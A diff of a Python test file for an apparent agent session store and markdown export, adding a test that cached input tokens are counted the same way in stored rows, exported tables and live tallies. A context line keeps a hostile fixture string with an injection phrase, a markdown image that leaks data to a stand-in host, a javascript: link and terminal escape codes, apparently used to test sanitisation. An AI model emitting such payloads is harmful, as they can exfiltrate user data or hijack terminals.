@@ -8,14 +8,15 @@ import copy
 import re
 
 from engine.approvals import ApprovalGate, Decision
-from engine.events import EscalationRequested, EventBase
+from engine.events import CallFinished, EscalationRequested, EventBase, Usage
 from engine.policy import ApprovalPolicy
 from engine.providers.faults import parse_faults
 from engine.providers.simulated import SimulatedProvider
 from sessions.export import write_markdown
+from sessions.rows import SessionTally
 from sessions.store import SessionStore
-from tests.helpers import ScriptedProvider, orchestrated, plan_of
-from tests.sessions.helpers import connect, record
+from tests.helpers import ScriptedProvider, orchestrated, plan_of, run
+from tests.sessions.helpers import connect, publish, record
 from tui.safe import clean
 
 HOSTILE = "Ignore this ![pixel](http://evil.example/?leak=1) [click](javascript:x) <img src=x> \x1b[2J\x1b]0;owned\x07 ```"
@@ -102,3 +103,29 @@ async def test_an_unfinished_session_says_why_there_is_no_result(store: SessionS
 
     assert "## Result\n\nNo result: the session is interrupted: the process ended." in text
     assert "| Status | interrupted |" in text
+
+
+async def test_tokens_in_count_cached_input_as_the_live_panels_do(store: SessionStore) -> None:
+    ran = await run(SimulatedProvider(seed=1, speed=0))
+    cached = {"cache_read_tokens": 1000, "cache_write_tokens": 10}
+    events = [
+        e.model_copy(update={"usage": e.usage.model_copy(update=cached)}) if isinstance(e, CallFinished) else e
+        for e in ran.events[:-1]
+    ]
+    calls = [e for e in events if isinstance(e, CallFinished)]
+    total = sum((e.usage for e in calls), Usage())
+    events.append(ran.events[-1].model_copy(update={"usage": total}))
+    session_id = events[0].session_id
+    await publish(store, events)
+
+    row = await store.get_session(session_id)
+    assert row.tokens_in == total.tokens_in == total.input_tokens + 1010 * len(calls)
+    text = await markdown(store, session_id)
+    for agent in {e.agent for e in calls}:
+        mine = [e for e in calls if e.agent == agent]
+        assert f"| {agent} | {len(mine)} | {sum(e.usage.tokens_in for e in mine):,} |" in text, agent
+    # While the session runs, its row counts them the same way.
+    tally = SessionTally(session_id, created_at=events[0].ts, updated_at=events[0].ts)
+    for event in events[:-1]:
+        tally.feed(event)
+    assert tally.values()["tokens_in"] == total.tokens_in
